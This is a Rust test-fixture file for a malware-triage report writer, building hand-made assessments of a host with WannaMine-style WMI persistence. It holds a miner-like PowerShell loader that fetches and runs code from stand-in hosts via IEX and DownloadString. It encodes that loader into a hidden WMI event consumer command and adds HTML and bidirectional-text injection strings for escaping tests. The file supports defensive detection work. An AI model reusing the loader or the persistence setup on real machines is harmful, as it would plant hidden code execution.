//! Assessments made by hand, for the tests of this crate.

use crate::{Context, Format, Language, Shell, TextOptions, Writer};
use deobfuscate::{Limits, decode};
use detect::assessment::{
    Action, Assessment, Confidence, DecodedScript, Duty, EvidenceRef, ExposedAccount, Exposure, Finding,
    Kind, Missing, Next, Severity, Stage, StageState, State, TimelineEntry, Verdict,
};
use evidence::{Area, Coverage, Custody, Host, Level, Message, NameSource, Note, OperatingSystem, ReadState};
use serde_json::{Map, Value, json};

/// A context with fixed values.
pub(crate) fn context(language: Language) -> Context<'static> {
    static EVIDENCE: std::sync::LazyLock<Vec<String>> =
        std::sync::LazyLock::new(|| vec!["evidence/DESKTOP-1_WMI.zip".to_owned(), "other host".to_owned()]);
    Context { tool_version: "0.0.0-test", language, evidence_args: &EVIDENCE, shell: Shell::Posix }
}

/// A whole report as text.
pub(crate) fn write(
    format: Format,
    language: Language,
    options: TextOptions,
    assessments: &[Assessment],
) -> String {
    let mut writer = Writer::new(format, context(language), options, Vec::new());
    writer.begin().unwrap();
    for assessment in assessments {
        writer.assessment(assessment).unwrap();
    }
    String::from_utf8(writer.end(&[run_note()]).unwrap()).unwrap()
}

/// A note that belongs to no host.
pub(crate) fn run_note() -> Note {
    Note {
        level: Level::Warning,
        source: "notes\u{1b}[31m.txt".to_owned(),
        offset: Some(12),
        message: Message::new("nothing-read"),
    }
}

fn stage(at: Stage, state: State, summary: Message, next: Option<Next>) -> StageState {
    StageState { stage: at, state, summary, next }
}

fn check_next() -> Next {
    let words = ["check", "{evidence}", "--format", "html", "--output", "report.html"];
    Next::Deminer(words.map(str::to_owned).to_vec())
}

fn place(member: &str, offset: u64) -> EvidenceRef {
    EvidenceRef {
        source: "evidence/DESKTOP-1_WMI.zip".to_owned(),
        member: Some(member.to_owned()),
        offset: Some(offset),
        record: None,
        sha256: Some("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".to_owned()),
    }
}

fn object(value: Value) -> Map<String, Value> {
    match value {
        Value::Object(map) => map,
        other => panic!("{other} is no object"),
    }
}

fn decoded(field: &str, text: &str) -> DecodedScript {
    let decoded = decode(text, None, &Limits::default());
    DecodedScript {
        field: field.to_owned(),
        layers: decoded.layers,
        indicators: decoded.indicators,
        traits: decoded.traits,
        problems: decoded.problems,
    }
}

fn encoded(script: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let group =
            chunk.iter().fold(0_u32, |sum, byte| sum << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for at in 0..4 {
            let digit = DIGITS[(group >> (18 - 6 * at) & 63) as usize];
            out.push(if at > chunk.len() { '=' } else { char::from(digit) });
        }
    }
    out
}

/// A script in the manner of such miners; its addresses are for documentation.
fn script() -> String {
    [
        "$se=@('192.0.2.7','update.example.net')",
        "foreach($t in $se){",
        "\tif(test-connection $t -count 1){ $nic=$t; break }",
        "}",
        "# <script>alert(1)</script> \u{202E}txt",
        "$ver=(New-Object Net.WebClient).DownloadString(\"http://${nic}:8000/ver.txt\").Trim()",
        "IEX (New-Object Net.WebClient).DownloadString('http://update.example.net:8000/info6.ps1')",
        "$mon=([WmiClass]'root\\default:Win32_Services').Properties['mon'].Value",
        "IEX $mon",
    ]
    .join("\r\n")
}

fn subscription() -> Finding {
    let command = format!("powershell.exe -NoP -NonI -W Hidden -E {}", encoded(&script()));
    Finding {
        id: "0123456789abcdef".to_owned(),
        kind: Kind::Subscription,
        severity: Severity::High,
        confidence: Confidence::Certain,
        title: Message::new("title-subscription")
            .with("class", "CommandLineEventConsumer")
            .with("name", "DSM Event\u{202E} Log <b>Consumer</b>"),
        reasons: vec![
            Message::new("reason-can-run-code").with("class", "CommandLineEventConsumer"),
            Message::new("reason-family-content")
                .with("family", "WannaMine")
                .with("indicator", "CommandLineTemplate")
                .with("source", "https://example.org/write-up"),
        ],
        family: Some("WannaMine".to_owned()),
        attack: vec!["T1027.010".to_owned(), "T1059.001".to_owned(), "T1546.003".to_owned()],
        subject: object(json!({
            "filters": [{
                "__CLASS": "__EventFilter",
                "__NAMESPACE": "root\\subscription",
                "Name": "DSM Event Log Filter",
                "Query": "SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
                "QueryLanguage": "WQL",
                "CreatorSID": [1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0],
                "CreatorSID (text)": "S-1-5-21-1-2-3-500",
            }],
            "consumer": {
                "__CLASS": "CommandLineEventConsumer",
                "Name": "DSM Event\u{202E} Log <b>Consumer</b>",
                "CommandLineTemplate": command,
                "ExecutablePath": null,
                "RunInteractively": false,
            },
            "binding": {
                "__CLASS": "__FilterToConsumerBinding",
                "Filter": "__EventFilter.Name=\"DSM Event Log Filter\"",
            },
        })),
        name: "DSM Event\u{202E} Log <b>Consumer</b>".to_owned(),
        decoded: vec![decoded("CommandLineTemplate", &command)],
        action: Action::Remove,
        evidence: vec![place("EventConsumer.txt", 4242), place("EventFilter.txt", 2)],
    }
}

fn class_store() -> Finding {
    Finding {
        id: "fedcba9876543210".to_owned(),
        kind: Kind::ClassStore,
        severity: Severity::Critical,
        confidence: Confidence::Certain,
        title: Message::new("title-class-store")
            .with("namespace", "root\\default")
            .with("class", "Win32_Services"),
        reasons: vec![
            Message::new("reason-store-size")
                .with("property", "mon")
                .with("size", 357_720_u64)
                .with("limit", 1_000_u64),
        ],
        family: Some("WannaMine".to_owned()),
        attack: vec!["T1027.011".to_owned()],
        subject: object(json!({
            "__CLASS": "Win32_Services",
            "mon": "TVqQAAMAAAAEAAAA".repeat(120),
            "ipsu": "10.0.0.7\r\n10.0.0.9",
        })),
        name: "Win32_Services".to_owned(),
        decoded: Vec::new(),
        action: Action::Remove,
        evidence: vec![EvidenceRef { record: Some(7), offset: None, ..place("classes.mof", 0) }],
    }
}

fn vendor_entry() -> Finding {
    Finding {
        id: "00000000000000aa".to_owned(),
        kind: Kind::Autostart,
        severity: Severity::Info,
        confidence: Confidence::Possible,
        title: Message::new("title-autostart")
            .with("kind", Message::new("kind-run"))
            .with("name", "Contoso Updater"),
        reasons: vec![Message::new("action-none")],
        family: None,
        attack: Vec::new(),
        subject: object(
            json!({ "Entry": "Contoso Updater", "Launch String": "\"C:\\Program Files\\Contoso\\u.exe\"" }),
        ),
        name: "Contoso Updater".to_owned(),
        decoded: Vec::new(),
        action: Action::None,
        evidence: vec![place("autoruns.csv", 900)],
    }
}

/// An account of a service that was used on the host.
fn exposure() -> Exposure {
    Exposure {
        since: Some("2022-03-10T20:00:00Z".parse().unwrap()),
        accounts: vec![ExposedAccount {
            domain: Some("CORP".to_owned()),
            name: "svc-backup".to_owned(),
            sid: Some("S-1-5-21-1-2-3-1104".to_owned()),
            local: Some(false),
            logons: [(2, 1), (3, 41)].into(),
            logons_since: [(3, 40)].into(),
            explicit: 2,
            services: vec!["Backup".to_owned()],
            tasks: Vec::new(),
            first: Some("2022-03-10T20:01:00Z".parse().unwrap()),
            last: Some("2022-03-11T05:00:00Z".parse().unwrap()),
        }],
    }
}

/// A host in the manner of WannaMine, with hostile characters in its names.
pub(crate) fn infected() -> Assessment {
    let mut coverage = Coverage::default();
    for area in [Area::EventFilters, Area::EventConsumers, Area::Bindings, Area::Timers] {
        coverage.add(area, ReadState::Complete);
    }
    coverage.add(Area::ClassStores, ReadState::Partial);
    Assessment {
        host: Host {
            os: Some(OperatingSystem {
                product: Some("Windows 10 Pro".to_owned()),
                version: Some("10.0.19044".to_owned()),
                ubr: Some(1586),
            }),
            names: vec!["DESKTOP-1".to_owned(), "desktop-1.example.org".to_owned()],
            ..Host::named("DESKTOP-1", NameSource::Record)
        },
        verdict: Verdict::Infected,
        coverage,
        missing: vec![
            Missing { area: Area::ClassStores, partly: true, how: Message::new("how-class-stores") },
            Missing { area: Area::Patch, partly: false, how: Message::new("how-patch") },
        ],
        custody: Custody::Verified,
        stages: vec![
            stage(
                Stage::Confirm,
                State::Act,
                Message::new("stage-confirm-infected").with("count", 2_u64),
                Some(check_next()),
            ),
            stage(
                Stage::Patch,
                State::Unknown,
                Message::new("stage-patch-unknown"),
                Some(Next::OnMachine("wmic qfe list".to_owned())),
            ),
            stage(Stage::Collect, State::Ok, Message::new("stage-collect-ok"), None),
            stage(
                Stage::Compare,
                State::Act,
                Message::new("stage-compare-differs").with("count", 2_u64),
                None,
            ),
            stage(Stage::Locate, State::Act, Message::new("stage-locate-found").with("count", 2_u64), None),
            stage(
                Stage::Remove,
                State::Act,
                Message::new("stage-remove-act").with("count", 2_u64),
                Some(check_next()),
            ),
            stage(Stage::Verify, State::Unknown, Message::new("stage-verify-unknown"), None),
            stage(
                Stage::Prevent,
                State::Act,
                Message::new("stage-prevent-neighbours").with("count", 2_u64),
                None,
            ),
        ],
        findings: vec![class_store(), subscription(), vendor_entry()],
        neighbours: vec!["10.0.0.7".to_owned(), "10.0.0.9".to_owned()],
        exposure: exposure(),
        duties: vec![
            Duty {
                id: "rebuild".to_owned(),
                text: Message::new("duty-rebuild"),
                reasons: vec![Message::new("rebuild-family").with("family", "MyKings")],
            },
            Duty {
                id: "passwords".to_owned(),
                text: Message::new("duty-passwords").with("count", 1_u64),
                reasons: Vec::new(),
            },
        ],
        timeline: vec![TimelineEntry {
            time: "2022-03-10T21:08:30Z".parse().unwrap(),
            what: Message::new("title-subscription")
                .with("class", "CommandLineEventConsumer")
                .with("name", "DSM Event Log Consumer"),
            fate: Some(Message::new("fate-present")),
            evidence: place("EventConsumer.txt", 4242),
        }],
        notes: vec![Note {
            level: Level::Warning,
            source: "evidence/DESKTOP-1_WMI.zip!EventFilter.txt".to_owned(),
            offset: Some(2048),
            message: Message::new("reason-ambiguous"),
        }],
    }
}

/// The infected host with an address of the evidence in every sentence that is made of messages.
pub(crate) fn with_links(url: &str) -> Assessment {
    let message = || Message::new("title-subscription").with("class", "x").with("name", url);
    let mut assessment = infected();
    assessment.stages.iter_mut().for_each(|stage| stage.summary = message());
    assessment.notes.iter_mut().for_each(|note| note.message = message());
    for duty in &mut assessment.duties {
        (duty.text, duty.reasons) = (message(), vec![message()]);
    }
    for entry in &mut assessment.timeline {
        (entry.what, entry.fate) = (message(), Some(message()));
    }
    assessment
}

/// A host on which nothing is.
pub(crate) fn clean() -> Assessment {
    let mut coverage = Coverage::default();
    for area in [Area::EventFilters, Area::EventConsumers, Area::Bindings] {
        coverage.add(area, ReadState::Complete);
    }
    Assessment {
        host: Host::named("経理-07", NameSource::BundleName),
        verdict: Verdict::Clean,
        coverage,
        missing: vec![Missing { area: Area::Tasks, partly: false, how: Message::new("how-tasks") }],
        custody: Custody::Unsealed,
        stages: Stage::ALL
            .into_iter()
            .map(|at| match at {
                Stage::Confirm => stage(at, State::Ok, Message::new("stage-confirm-clean"), None),
                Stage::Compare => stage(at, State::Ok, Message::new("stage-compare-ok"), None),
                Stage::Remove => stage(at, State::Ok, Message::new("stage-remove-ok"), None),
                other => stage(other, State::Unknown, Message::new("stage-patch-unknown"), None),
            })
            .collect(),
        findings: Vec::new(),
        neighbours: Vec::new(),
        exposure: Exposure::default(),
        duties: Vec::new(),
        timeline: Vec::new(),
        notes: Vec::new(),
    }
}

/// The infected host with the text at every place that comes from the evidence.
pub(crate) fn hostile(text: &str) -> Assessment {
    let mut assessment = infected();
    let message = || Message::new("title-subscription").with("class", text).with("name", text);
    text.clone_into(&mut assessment.host.name);
    text.clone_into(&mut assessment.host.id.0);
    assessment.host.names = vec![text.to_owned()];
    if let Some(os) = &mut assessment.host.os {
        os.product = Some(text.to_owned());
    }
    assessment.neighbours = vec![text.to_owned()];
    for account in &mut assessment.exposure.accounts {
        account.domain = Some(text.to_owned());
        text.clone_into(&mut account.name);
        account.sid = Some(text.to_owned());
        account.services = vec![text.to_owned()];
        account.tasks = vec![text.to_owned()];
    }
    for duty in &mut assessment.duties {
        duty.text = message();
        duty.reasons = vec![message()];
    }
    for finding in &mut assessment.findings {
        finding.title = message();
        finding.reasons =
            vec![message(), Message::new("title-autostart").with("kind", message()).with("name", text)];
        text.clone_into(&mut finding.name);
        finding.family = Some(text.to_owned());
        finding.attack = vec![text.to_owned()];
        finding.subject =
            object(json!({ text: text, "list": [text, 1], "object": { text: { text: text } } }));
        finding.decoded = vec![decoded(text, text)];
        for evidence in &mut finding.evidence {
            text.clone_into(&mut evidence.source);
            evidence.member = Some(text.to_owned());
            evidence.sha256 = Some(text.to_owned());
        }
    }
    for stage in &mut assessment.stages {
        stage.summary = message();
        stage.next = Some(Next::Deminer(vec!["check".to_owned(), text.to_owned(), "{evidence}".to_owned()]));
    }
    for note in &mut assessment.notes {
        text.clone_into(&mut note.source);
        note.message = message();
    }
    for entry in &mut assessment.timeline {
        entry.what = message();
    }
    assessment
}
